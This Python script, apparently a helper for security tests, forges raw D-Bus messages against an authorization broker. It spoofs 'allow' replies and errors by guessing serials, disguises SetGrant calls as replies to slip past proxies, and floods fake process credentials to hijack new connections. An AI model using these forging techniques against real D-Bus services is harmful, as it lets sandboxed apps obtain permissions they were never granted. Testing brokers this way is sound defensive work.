#!/usr/bin/python3
"""Answers calls of the broker that others were sent: replies with every serial that the broker may be waiting for.

    forge.py answers COUNT     once for each serial up to COUNT: "allow", as an agent would answer a prompt
    forge.py errors COUNT      an error in the same way
    forge.py calls COUNT       calls of SetGrant that claim to be replies in the same way
    forge.py credentials PID   while it connects twelve times: that the new connection is process PID's
    forge.py called NAME       owns NAME until it is called, and answers by a call of SetGrant, as if that were its reply

Says "ready", waits for a line, does it, and says what came of it, after the broker has read all of it.
"""
import os
import struct
import sys
import threading

from raw_bus import RawBus, append, padded

BROKER, ROOT = "org.filmgate.Library1", "/org/filmgate/Library1"


def reply(destination, answers, options, serial=1):
    """A method return to a call with that serial, whose body is a{sv}."""
    body = append(b"", "a{sv}", options)
    fields = bytes([5, 1]) + b"u\0" + struct.pack("<I", answers)
    fields = padded(fields, 8) + bytes([6, 1]) + b"s\0" + struct.pack("<I", len(destination)) + destination.encode() + b"\0"
    fields = padded(fields, 8) + bytes([8, 1]) + b"g\0" + b"\x05a{sv}\0"
    header = b"l" + bytes([2, 1, 1]) + struct.pack("<III", len(body), serial, len(fields)) + fields
    return padded(header, 8) + body


def error(destination, answers, serial=1):
    """An error for a call with that serial."""
    fields = b""
    for code, kind, value in ((4, "s", "org.example.Error.Forged"), (6, "s", destination)):
        fields = padded(fields, 8) + bytes([code, 1]) + kind.encode() + b"\0"
        fields += struct.pack("<I", len(value)) + value.encode() + b"\0"
    fields = padded(fields, 8) + bytes([5, 1]) + b"u\0" + struct.pack("<I", answers)
    return padded(b"l" + bytes([3, 1, 1]) + struct.pack("<III", 0, serial, len(fields)) + fields, 8)


def disguised(destination, answers, serial):
    """A call of SetGrant with the header field of a reply to a call with that serial: proxies have let such calls pass."""
    body = b""
    for kind, value in (("s", "flatpak:org.example.Forger"), ("s", "full"), ("a{sv}", {})):
        body = append(body, kind, value)
    fields = bytes([5, 1]) + b"u\0" + struct.pack("<I", answers)
    for code, kind, value in ((1, "o", ROOT), (6, "s", destination), (2, "s", "org.filmgate.Admin1"), (3, "s", "SetGrant")):
        fields = padded(fields, 8) + bytes([code, 1]) + kind.encode() + b"\0"
        fields += struct.pack("<I", len(value)) + value.encode() + b"\0"
    fields = padded(fields, 8) + bytes([8, 1]) + b"g\0" + b"\x07ssa{sv}\0"
    header = b"l" + bytes([1, 0, 1]) + struct.pack("<III", len(body), serial, len(fields)) + fields
    return padded(header, 8) + body


def ask(bus, interface, member, signature="", values=()):
    return bus.answer(bus.call(BROKER, ROOT, "org.filmgate." + interface, member, signature, values))


def owner(bus):
    return bus.answer(bus.call("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus", "GetNameOwner", "s",
                               (BROKER,)))["text"]


def answers(bus, broker, count, kind):
    for serial in range(1, count + 1):
        bus.serial += 1
        if kind == "answers":
            bus.socket.sendall(reply(broker, serial, {"decision": "allow"}, bus.serial))
        else:
            bus.socket.sendall({"errors": error, "calls": disguised}[kind](broker, serial, bus.serial))
    ask(bus, "Authorization1", "GetStatus", "s", ("read-write",))
    return "forged"


def called(bus, name):
    """Waits for a call, answers it by a call of the broker, and then by a true reply."""
    own = ("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus")
    bus.answer(bus.call(*own, "RequestName", "su", (name, 4)))
    print("ready", flush=True)
    call = bus.called()
    bus.serial += 2
    bus.socket.sendall(disguised(BROKER, call["serial"], bus.serial - 1))
    bus.socket.sendall(reply(call["sender"], call["serial"], {}, bus.serial))
    # The bus has passed on, or refused, what came before.
    bus.answer(bus.call(*own, "GetId"))
    return "forged"


def credentials(bus, broker, pid, address):
    options = {"UnixUserID": os.getuid(), "ProcessID": pid}
    ended = threading.Event()

    def flood():
        base = 1
        # The bus has others to serve meanwhile, the new connections among them.
        while not ended.wait(0.005):
            bus.socket.sendall(b"".join(reply(broker, serial, options) for serial in range(base, base + 500)))
            base = base + 500 if base < 3000 else 1

    thread = threading.Thread(target=flood)
    thread.start()
    taken = 0
    for _ in range(12):
        other = RawBus(address)
        client = ask(other, "Authorization1", "GetClient")
        taken += b"flatpak:" in client["body"]
        other.close()
    ended.set()
    thread.join()
    return f"{taken} of 12"


def main():
    address = os.environ["DBUS_SESSION_BUS_ADDRESS"]
    bus = RawBus(address)
    if sys.argv[1] == "called":
        return print(called(bus, sys.argv[2]), flush=True)
    broker = owner(bus)
    print("ready", flush=True)
    sys.stdin.readline()
    number = int(sys.argv[2])
    what = credentials(bus, broker, number, address) if sys.argv[1] == "credentials" else answers(
        bus, broker, number, sys.argv[1])
    print(what, flush=True)


main()
